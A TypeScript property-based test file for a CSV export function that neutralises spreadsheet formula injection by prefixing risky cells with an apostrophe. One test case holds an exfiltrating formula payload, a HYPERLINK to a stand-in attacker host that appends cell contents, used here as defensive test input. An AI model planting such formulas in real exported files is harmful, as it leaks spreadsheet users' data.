import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine, type CsvCell } from '../../../src/admin/export/csv-line.ts';
import { parseCsv } from '../../support/parse-csv.ts';

const DANGEROUS = '=+-@\t\r\n＝＋－＠'.split('');

/** Texts of what CSV and spreadsheets treat in a special way, among others. */
const text = fc.oneof(
  fc.string({ unit: fc.constantFrom(...DANGEROUS, '"', "'", ',', ';', ' ', 'a', 'é', '\u{1f512}', '\0', '\u202e') }),
  fc.string({ unit: 'binary' }),
);
const cell = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null));

const written = (value: CsvCell): string => (value === null ? '' : String(value));

test('every line comes back from a strict parser as it was, but for the sign before what would be a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { maxLength: 5 }), (lines) => {
      const back = parseCsv(lines.map(csvLine).join(''));
      expect(back.map((cells) => cells.length)).toEqual(lines.map((cells) => cells.length));
      for (const [at, cells] of lines.entries())
        for (const [place, value] of cells.entries()) {
          const read = back[at]?.[place] ?? '';
          // A cell that begins with white space alone may have the sign or not.
          const isDangerous = typeof value === 'string' && DANGEROUS.includes(value.trimStart()[0] ?? '');
          const may = isDangerous ? [`'${written(value)}`] : [written(value), `'${written(value)}`];
          expect(may).toContain(read);
        }
    }),
    { numRuns: 1_000 },
  );
});

test.each([
  ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
  ['+1', "'+1"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['\nplain', `"'\nplain"`],
  ['  =1', "'  =1"],
  ['＝1', "'＝1"],
  ['a,b', '"a,b"'],
  ['a=1', 'a=1'],
  [-5, '-5'],
  [false, 'false'],
  [null, ''],
] as const)('%j is written as %j', (value, cell) => {
  expect(csvLine([value, 'x'])).toBe(`${cell},x\r\n`);
});
